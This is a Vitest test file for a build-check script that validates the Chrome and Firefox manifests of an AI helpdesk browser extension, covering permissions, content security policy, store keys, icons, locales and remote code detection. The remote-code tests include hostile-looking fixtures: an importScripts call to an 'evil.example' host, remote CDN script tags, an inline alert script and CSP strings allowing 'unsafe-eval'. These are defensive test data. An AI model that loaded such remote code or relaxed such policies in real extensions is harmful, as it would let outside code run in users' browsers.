import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  ALLOWED,
  CSP_INTENT,
  checkBuildDir,
  checkCsp,
  checkIconFiles,
  checkLocalizedManifest,
  checkManagedSchema,
  checkManifest,
  checkPermissions,
  checkStoreKeys,
  findRemoteCodeInJs,
  findRemoteScriptsInHtml,
  formatReport,
  type LocaleFiles,
  type Manifest,
  manifestMessageRefs,
  parseArgs,
  parseCsp,
  pngSize,
  resolveManifest,
  splitPermissions,
  WXT_CSP_SNIPPET,
} from '../../scripts/check-manifests.mjs';

const ICONS = { '16': 'icon/16.png', '32': 'icon/32.png', '48': 'icon/48.png', '128': 'icon/128.png' };

/** What the Chrome build should look like once the CSP is declared. */
function chromeManifest(): Manifest {
  return {
    manifest_version: 3,
    name: 'Deskmate',
    description: 'AI help for support agents inside their helpdesk.',
    version: '0.1.0',
    icons: { ...ICONS },
    permissions: ['storage', 'tabs', 'activeTab', 'scripting', 'clipboardWrite', 'alarms', 'sidePanel'],
    host_permissions: [...ALLOWED.chrome.hosts],
    optional_host_permissions: ['https://*/*', 'http://*/*'],
    content_security_policy: { extension_pages: CSP_INTENT },
    minimum_chrome_version: '116',
    background: { service_worker: 'background.js' },
  };
}

/** What the Firefox MV2 build should look like (WXT merges hosts into permissions, CSP becomes a string). */
function firefoxManifest(): Manifest {
  return {
    manifest_version: 2,
    name: 'Deskmate',
    description: 'AI help for support agents inside their helpdesk.',
    version: '0.1.0',
    icons: { ...ICONS },
    permissions: [
      'storage',
      'tabs',
      'activeTab',
      'scripting',
      'clipboardWrite',
      'alarms',
      ...ALLOWED.firefox.hosts,
    ],
    optional_permissions: ['https://*/*', 'http://*/*'],
    content_security_policy: CSP_INTENT,
    browser_specific_settings: {
      gecko: {
        id: 'deskmate@deskmate.dev',
        strict_min_version: '140.0',
        data_collection_permissions: { required: ['none'] },
      },
    },
  };
}

const messages = (problems: Array<{ message: string }>) => problems.map((p) => p.message);

/** A minimal valid PNG header (signature + IHDR) of the given size. */
function png(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(33);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  return bytes;
}

describe('passing manifests', () => {
  it('accepts the intended Chrome and Firefox manifests', () => {
    expect(checkManifest(chromeManifest(), 'chrome', { expectedVersion: '0.1.0' })).toEqual([]);
    expect(checkManifest(firefoxManifest(), 'firefox', { expectedVersion: '0.1.0' })).toEqual([]);
  });

  it('splits MV2 permissions into API permissions and hosts', () => {
    expect(splitPermissions(firefoxManifest())).toEqual({
      permissions: ALLOWED.firefox.permissions,
      hosts: ALLOWED.firefox.hosts,
      optionalPermissions: [],
      optionalHosts: ALLOWED.firefox.optionalHosts,
    });
  });

  it('accepts a CSP without the trailing semicolon, and object-src none', () => {
    const m = chromeManifest();
    m.content_security_policy = { extension_pages: "script-src 'self'; object-src 'none'" };
    expect(checkCsp(m)).toEqual([]);
  });
});

describe('permissions allow-list', () => {
  it('fails an extra permission, naming it', () => {
    const m = chromeManifest();
    m.permissions = [...(m.permissions as string[]), 'cookies'];
    expect(messages(checkPermissions(m, 'chrome'))).toEqual([
      expect.stringMatching(/permission "cookies" is not on the allow-list/),
    ]);
  });

  it('fails <all_urls> and a broad host permission', () => {
    const m = chromeManifest();
    m.host_permissions = [...(m.host_permissions as string[]), '<all_urls>', 'https://*/*'];
    const found = messages(checkPermissions(m, 'chrome'));
    expect(found).toContainEqual(
      expect.stringMatching(/host permission "<all_urls>" is not on the allow-list/),
    );
    expect(found).toContainEqual(expect.stringMatching(/host permission "https:\/\/\*\/\*" is not on/));
  });

  it('explains that sidePanel is Chrome-only when it leaks into Firefox', () => {
    const m = firefoxManifest();
    m.permissions = [...(m.permissions as string[]), 'sidePanel'];
    expect(messages(checkPermissions(m, 'firefox'))).toEqual([
      expect.stringMatching(/sidePanel is Chrome-only/),
    ]);
  });

  it('fails an allow-listed permission the build no longer requests', () => {
    const m = chromeManifest();
    m.permissions = (m.permissions as string[]).filter((p) => p !== 'clipboardWrite');
    expect(messages(checkPermissions(m, 'chrome'))).toEqual([
      expect.stringMatching(/allow-listed permission "clipboardWrite" is no longer requested/),
    ]);
  });

  it('fails optional API permissions and unknown optional hosts', () => {
    const m = firefoxManifest();
    m.optional_permissions = ['https://*/*', 'http://*/*', 'bookmarks', 'ftp://*/*'];
    const found = messages(checkPermissions(m, 'firefox'));
    expect(found).toContainEqual(expect.stringMatching(/optional permission "bookmarks"/));
    expect(found).toContainEqual(expect.stringMatching(/optional host permission "ftp:\/\/\*\/\*"/));
  });

  it('fails a content script that runs outside the allowed hosts', () => {
    const m = chromeManifest();
    m.content_scripts = [{ matches: ['http://localhost/*', 'https://*.example-desk.com/*'], js: ['c.js'] }];
    expect(messages(checkPermissions(m, 'chrome'))).toEqual([
      expect.stringMatching(/content_scripts\[0\] matches "https:\/\/\*\.example-desk\.com\/\*"/),
    ]);
  });

  it('requires loopback only: a helpdesk host made required again fails (helpdesks are opt-in)', () => {
    expect(ALLOWED.chrome.hosts).toEqual(['http://localhost/*', 'http://127.0.0.1/*']);
    expect(ALLOWED.firefox.hosts).toEqual(ALLOWED.chrome.hosts);
    const chrome = chromeManifest();
    chrome.host_permissions = [...ALLOWED.chrome.hosts, 'https://*.zendesk.com/*'];
    chrome.content_scripts = [{ matches: ['https://*.zendesk.com/*'], js: ['content-scripts/zendesk.js'] }];
    const found = messages(checkPermissions(chrome, 'chrome'));
    expect(found).toContainEqual(expect.stringContaining('"https://*.zendesk.com/*"'));
    expect(found).toContainEqual(
      expect.stringMatching(/content_scripts\[0\] matches "https:\/\/\*\.zendesk/),
    );
    const firefox = firefoxManifest();
    firefox.permissions = [
      ...ALLOWED.firefox.permissions,
      ...ALLOWED.firefox.hosts,
      'https://*.freshdesk.com/*',
    ];
    expect(messages(checkPermissions(firefox, 'firefox'))).toContainEqual(
      expect.stringContaining('"https://*.freshdesk.com/*"'),
    );
  });
});

describe('content security policy', () => {
  it('parses directives', () => {
    expect(parseCsp("script-src 'self' ; object-src 'self';")).toEqual(
      new Map([
        ['script-src', ["'self'"]],
        ['object-src', ["'self'"]],
      ]),
    );
  });

  it('reports the exact wxt.config.ts snippet when the CSP is missing (both browsers)', () => {
    const chrome = chromeManifest();
    delete chrome.content_security_policy;
    const firefox = firefoxManifest();
    delete firefox.content_security_policy;
    for (const problems of [checkCsp(chrome), checkCsp(firefox)]) {
      expect(problems).toHaveLength(1);
      expect(problems[0]?.fix).toContain(WXT_CSP_SNIPPET);
    }
    expect(WXT_CSP_SNIPPET).toBe(
      `content_security_policy: { extension_pages: "script-src 'self'; object-src 'self';" },`,
    );
  });

  it("fails 'unsafe-eval', remote sources, 'unsafe-inline' and a string CSP in MV3", () => {
    const m = chromeManifest();
    m.content_security_policy = {
      extension_pages: "script-src 'self' 'unsafe-eval' https://cdn.example.com; object-src 'self'",
    };
    const found = messages(checkCsp(m));
    expect(found).toContainEqual(expect.stringMatching(/'unsafe-eval'/));
    expect(found).toContainEqual(expect.stringMatching(/remote source https:\/\/cdn\.example\.com/));

    const inline = firefoxManifest();
    inline.content_security_policy = "script-src 'self' 'unsafe-inline'; object-src 'self'";
    expect(messages(checkCsp(inline))).toEqual([expect.stringMatching(/'unsafe-inline'/)]);

    const mv3String = chromeManifest();
    mv3String.content_security_policy = CSP_INTENT;
    expect(messages(checkCsp(mv3String))).toEqual([
      expect.stringMatching(/Manifest V3 needs \{ extension_pages \}/),
    ]);
  });

  it('fails remote URLs anywhere in the CSP, a bare scheme and a wildcard', () => {
    const m = firefoxManifest();
    m.content_security_policy =
      "script-src 'self' https:; object-src 'self'; connect-src https://api.example.com *";
    const found = messages(checkCsp(m));
    expect(found).toContainEqual(expect.stringMatching(/script-src allows the remote source https:/));
    expect(found).toContainEqual(expect.stringMatching(/connect-src allows the remote source https:\/\/api/));
    expect(found).toContainEqual(expect.stringMatching(/connect-src allows the remote source \*/));
  });

  it('fails a CSP that does not restrict scripts or objects', () => {
    const m = firefoxManifest();
    m.content_security_policy = "img-src 'self'";
    expect(messages(checkCsp(m))).toEqual([
      expect.stringMatching(/no script-src/),
      expect.stringMatching(/no object-src/),
    ]);
  });

  it('checks a declared sandbox CSP for eval', () => {
    const m = chromeManifest();
    m.content_security_policy = {
      extension_pages: CSP_INTENT,
      sandbox: "sandbox allow-scripts; script-src 'self' 'unsafe-inline' 'unsafe-eval'",
    };
    expect(messages(checkCsp(m))).toEqual([
      expect.stringMatching(/sandbox: script-src allows 'unsafe-inline'/),
      expect.stringMatching(/sandbox: script-src allows 'unsafe-eval'/),
    ]);
  });
});

describe('store keys', () => {
  it('requires minimum_chrome_version and the four icon sizes', () => {
    const m = chromeManifest();
    delete m.minimum_chrome_version;
    m.icons = { '16': 'icon/16.png', '128': 'icon/128.png' };
    const problems = checkStoreKeys(m, 'chrome');
    expect(messages(problems)).toEqual([
      'minimum_chrome_version is missing',
      'icons 32, 48 are missing from the manifest',
    ]);
    expect(problems[1]?.fix).toContain('public/icon/32.png');
  });

  it('fails a Chrome description over 132 characters', () => {
    const m = chromeManifest();
    m.description = 'x'.repeat(133);
    expect(messages(checkStoreKeys(m, 'chrome'))).toEqual([
      'description is 133 characters (Chrome Web Store max 132)',
    ]);
  });

  it('requires the gecko id, strict_min_version and data_collection_permissions', () => {
    const m = firefoxManifest();
    m.browser_specific_settings = { gecko: {} };
    expect(messages(checkStoreKeys(m, 'firefox'))).toEqual([
      'browser_specific_settings.gecko.id is missing',
      'browser_specific_settings.gecko.strict_min_version is missing or malformed',
      expect.stringMatching(/data_collection_permissions\.required is missing/),
    ]);
  });

  it('fails a strict_min_version older than data_collection_permissions (Firefox 140)', () => {
    const m = firefoxManifest();
    (m.browser_specific_settings?.gecko as Record<string, unknown>).strict_min_version = '128.0';
    const problems = checkStoreKeys(m, 'firefox');
    expect(messages(problems)).toEqual([expect.stringMatching(/128\.0 is older than Firefox 140/)]);
    expect(problems[0]?.fix).toBe("set strict_min_version: '140.0'");
  });

  it('warns (does not fail) when Firefox declares no icons', () => {
    const m = firefoxManifest();
    delete m.icons;
    expect(checkStoreKeys(m, 'firefox')).toEqual([
      expect.objectContaining({ severity: 'warning', check: 'icons' }),
    ]);
  });

  it('fails a stale build whose version differs from package.json', () => {
    expect(messages(checkManifest(chromeManifest(), 'chrome', { expectedVersion: '0.2.0' }))).toEqual([
      expect.stringMatching(/manifest version 0\.1\.0 is not package\.json's 0\.2\.0/),
    ]);
  });

  it('fails a manifest that replaces a browser page (an entrypoint named history becomes chrome://history)', () => {
    const m = { ...chromeManifest(), chrome_url_overrides: { history: 'history.html' } };
    expect(messages(checkManifest(m, 'chrome', { expectedVersion: '0.1.0' }))).toEqual([
      expect.stringMatching(/chrome_url_overrides replaces a page of the browser itself \(history\)/),
    ]);
  });
});

describe('remote code in built files', () => {
  it('finds remote and inline scripts in HTML, accepts packaged ones', () => {
    const html = [
      '<script type="module" crossorigin src="/chunks/sidepanel.js"></script>',
      '<link rel="modulepreload" crossorigin href="/chunks/shared.js">',
      '<script src="https://cdn.example.com/x.js"></script>',
      "<script src='//cdn.example.com/y.js'></script>",
      '<link rel="modulepreload" href="https://cdn.example.com/z.js">',
      '<link rel="stylesheet" href="/assets/a.css">',
      '<script>alert(1)</script>',
      '<script type="application/json">{"a":1}</script>',
    ].join('\n');
    expect(findRemoteScriptsInHtml(html)).toEqual([
      { line: 3, column: 1, message: 'remote <script src="https://cdn.example.com/x.js">' },
      { line: 4, column: 1, message: 'remote <script src="//cdn.example.com/y.js">' },
      { line: 7, column: 1, message: 'inline <script> (blocked by the extension CSP)' },
      {
        line: 5,
        column: 1,
        message: 'remote <link rel="modulepreload" href="https://cdn.example.com/z.js">',
      },
    ]);
  });

  it('finds import()/importScripts()/import-from of remote URLs in JS, not plain URL strings', () => {
    const code = [
      'const a = await import("./chunk.js"); const b = import(`node:buffer`);',
      'fetch("https://api.openai.com/v1/models"); const base = "https://api.openai.com/v1";',
      'const c = await import("https://cdn.example.com/mod.js");',
      "importScripts('https://cdn.example.com/worker.js');",
      'import x from"https://esm.sh/react";',
    ].join('\n');
    expect(findRemoteCodeInJs(code).map((f) => [f.line, f.message.split(':')[0]])).toEqual([
      [3, 'dynamic import() of a remote URL'],
      [4, 'importScripts() of a remote URL'],
      [5, 'static import of a remote URL'],
    ]);
  });
});

describe('icons', () => {
  it('reads PNG dimensions and rejects non-PNG bytes', () => {
    expect(pngSize(png(48, 48))).toEqual({ width: 48, height: 48 });
    expect(pngSize(new TextEncoder().encode('<svg></svg>'.padEnd(40)))).toBeNull();
  });

  it('fails missing, non-PNG and wrongly sized icon files', () => {
    const files: Record<string, Uint8Array> = {
      'icon/16.png': png(16, 16),
      'icon/32.png': png(64, 64),
      'icon/48.png': new TextEncoder().encode('GIF89a'.padEnd(40)),
    };
    expect(messages(checkIconFiles(ICONS, (f) => files[f]))).toEqual([
      'icon 32: icon/32.png is 64x64, not 32x32',
      'icon 48: icon/48.png is not a PNG',
      'icon 128: icon/128.png is not in the build',
    ]);
  });
});

describe('build directory and report', () => {
  let dir = '';
  afterEach(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  function writeBuild(manifest: Manifest, extra: Record<string, string | Uint8Array> = {}) {
    dir = mkdtempSync(path.join(tmpdir(), 'check-manifests-'));
    const files: Record<string, string | Uint8Array> = {
      'manifest.json': JSON.stringify(manifest),
      'background.js': 'import("node:buffer");',
      'sidepanel.html': '<script type="module" src="/chunks/sidepanel.js"></script>',
      'icon/16.png': png(16, 16),
      'icon/32.png': png(32, 32),
      'icon/48.png': png(48, 48),
      'icon/128.png': png(128, 128),
      ...extra,
    };
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      writeFileSync(path.join(dir, name), content);
    }
    return dir;
  }

  it('passes a clean build and prints a readable report', () => {
    const result = checkBuildDir(writeBuild(chromeManifest()), 'chrome', { expectedVersion: '0.1.0' });
    expect(result.problems).toEqual([]);
    const report = formatReport({ ...result, browser: 'chrome', dir: 'chrome-mv3' });
    expect(report).toContain(
      'permissions:          storage, tabs, activeTab, scripting, clipboardWrite, alarms, sidePanel',
    );
    expect(report).toContain(`CSP (extension pages): ${CSP_INTENT}`);
    expect(report).toContain('ok: all checks passed');
  });

  it('reports remote code with file and position, and the fix for a missing CSP', () => {
    const m = chromeManifest();
    delete m.content_security_policy;
    const result = checkBuildDir(
      writeBuild(m, {
        'chunks/x.js': 'let a=1;\nimportScripts("https://evil.example/x.js")',
        'options.html': '<script src="https://cdn.example.com/a.js"></script>',
      }),
      'chrome',
    );
    const report = formatReport({ ...result, browser: 'chrome', dir: 'chrome-mv3' });
    expect(report).toContain('FAIL [remote code] chunks/x.js:2:1: importScripts() of a remote URL');
    expect(report).toContain(
      'FAIL [remote code] options.html:1:1: remote <script src="https://cdn.example.com/a.js">',
    );
    expect(report).toContain(`fix: add to the manifest in wxt.config.ts (both browsers): ${WXT_CSP_SNIPPET}`);
    expect(report).toContain('3 problem(s)');
  });

  it('fails a missing build with the command that makes it', () => {
    const result = checkBuildDir(path.join(tmpdir(), 'no-such-build-dir'), 'firefox');
    expect(result.problems[0]?.fix).toBe('build it: npx wxt build -b firefox');
  });

  it('parses the CLI targets', () => {
    expect(parseArgs([])).toEqual([
      { browser: 'chrome', dir: '.output/chrome-mv3' },
      { browser: 'firefox', dir: '.output/firefox-mv2' },
    ]);
    expect(parseArgs(['--firefox', 'out/ff'])).toEqual([{ browser: 'firefox', dir: 'out/ff' }]);
    expect(() => parseArgs(['--edge'])).toThrow(/unknown argument --edge/);
  });
});

describe('checkManagedSchema (enterprise policy schema)', () => {
  const schema = JSON.stringify({ type: 'object', properties: { packUrls: { type: 'array' } } });
  const files = (map: Record<string, string>) => (file: string) => map[file];

  it('Chrome: a declared schema must be in the build and be an object schema', () => {
    const manifest = { storage: { managed_schema: 'managed_schema.json' } };
    expect(checkManagedSchema(manifest, 'chrome', files({ 'managed_schema.json': schema }))).toEqual([]);
    expect(checkManagedSchema(manifest, 'chrome', files({}))[0]?.message).toContain('not in the build');
    expect(
      checkManagedSchema(manifest, 'chrome', files({ 'managed_schema.json': '{' }))[0]?.message,
    ).toContain('not valid JSON');
    expect(
      checkManagedSchema(manifest, 'chrome', files({ 'managed_schema.json': '{"type":"array"}' }))[0]
        ?.message,
    ).toContain('not a schema of an object');
  });

  it('Firefox: the Chrome-only storage key must not appear', () => {
    expect(checkManagedSchema({}, 'firefox', files({}))).toEqual([]);
    expect(
      checkManagedSchema({ storage: { managed_schema: 'managed_schema.json' } }, 'firefox', files({}))[0]
        ?.message,
    ).toContain('Chrome-only');
  });
});

describe('localized manifest (__MSG_key__ against every _locales/<locale>/messages.json)', () => {
  function localized(browser: 'chrome' | 'firefox'): Manifest {
    return {
      ...(browser === 'chrome' ? chromeManifest() : firefoxManifest()),
      default_locale: 'en',
      description: '__MSG_manifest_description__',
      action: { default_title: '__MSG_manifest_action_title__' },
      commands: {
        draft: { suggested_key: { default: 'Alt+Shift+R' }, description: '__MSG_Command_Draft__' },
      },
    };
  }
  const locales = (): LocaleFiles => ({
    en: {
      manifest_description: { message: 'AI help for support agents.', description: 'Store text.' },
      manifest_action_title: { message: 'Open Deskmate' },
      command_draft: { message: 'Draft a reply' },
    },
    de: {
      manifest_description: { message: 'KI-Hilfe für Support-Mitarbeitende.' },
      manifest_action_title: { message: 'Deskmate öffnen' },
      command_draft: { message: 'Eine Antwort entwerfen' },
    },
  });

  it('lists every reference with where it is, and resolves them per locale (names are case-insensitive)', () => {
    expect(manifestMessageRefs(localized('chrome'))).toEqual([
      { key: 'manifest_description', path: 'description' },
      { key: 'manifest_action_title', path: 'action.default_title' },
      { key: 'Command_Draft', path: 'commands.draft.description' },
    ]);
    const de = resolveManifest(localized('chrome'), locales().de);
    expect(de.description).toBe('KI-Hilfe für Support-Mitarbeitende.');
    expect((de.commands as Record<string, { description: string }>).draft?.description).toBe(
      'Eine Antwort entwerfen',
    );
  });

  it('passes when every locale has every key within the limits', () => {
    expect(checkLocalizedManifest(localized('chrome'), 'chrome', locales())).toEqual([]);
    expect(checkLocalizedManifest(localized('firefox'), 'firefox', locales())).toEqual([]);
  });

  it('fails a key missing from one locale, naming the key, where it is used and the file', () => {
    const files = locales();
    delete files.de?.command_draft;
    const problems = checkLocalizedManifest(localized('chrome'), 'chrome', files);
    expect(problems.map((p) => p.message)).toEqual([
      'Command_Draft (used by commands.draft.description) is missing from _locales/de/messages.json',
    ]);
    expect(problems[0]?.fix).toBe('add it to public/_locales/de/messages.json');
  });

  it('measures the store limits in every language, not the __MSG_ placeholder', () => {
    const files = locales();
    if (files.de?.manifest_description) files.de.manifest_description.message = 'ü'.repeat(133);
    expect(checkStoreKeys(localized('chrome'), 'chrome')).toEqual([]);
    expect(checkLocalizedManifest(localized('chrome'), 'chrome', files).map((p) => p.message)).toEqual([
      'description in de is 133 characters (Chrome Web Store max 132)',
    ]);
    // Firefox Add-ons allows a longer summary.
    expect(checkLocalizedManifest(localized('firefox'), 'firefox', files)).toEqual([]);
    if (files.fr === undefined)
      files.fr = { ...files.en, manifest_description: { message: 'x'.repeat(251) } };
    expect(checkLocalizedManifest(localized('firefox'), 'firefox', files).map((p) => p.message)).toEqual([
      'description in fr is 251 characters (Firefox Add-ons summary max 250)',
    ]);
  });

  it('fails a missing default_locale and one that is not shipped', () => {
    const m = localized('chrome');
    delete m.default_locale;
    expect(checkLocalizedManifest(m, 'chrome', locales())[0]?.message).toMatch(/default_locale is missing/);
    expect(checkLocalizedManifest({ ...m, default_locale: 'sv' }, 'chrome', locales())[0]?.message).toBe(
      'default_locale is sv, but _locales/sv/messages.json is not in the build',
    );
  });

  it('a build: reads _locales from the build directory', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'check-manifests-locales-'));
    try {
      const files: Record<string, string | Uint8Array> = {
        'manifest.json': JSON.stringify(localized('chrome')),
        '_locales/en/messages.json': JSON.stringify(locales().en),
        '_locales/de/messages.json': JSON.stringify({ manifest_description: { message: 'KI-Hilfe.' } }),
        'icon/16.png': png(16, 16),
        'icon/32.png': png(32, 32),
        'icon/48.png': png(48, 48),
        'icon/128.png': png(128, 128),
      };
      for (const [name, content] of Object.entries(files)) {
        mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
        writeFileSync(path.join(dir, name), content);
      }
      const result = checkBuildDir(dir, 'chrome');
      expect(result.problems.map((p) => p.message)).toEqual([
        'manifest_action_title (used by action.default_title) is missing from _locales/de/messages.json',
        'Command_Draft (used by commands.draft.description) is missing from _locales/de/messages.json',
      ]);
      expect(formatReport({ ...result, browser: 'chrome', dir: 'chrome-mv3' })).toContain('locales: de, en');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
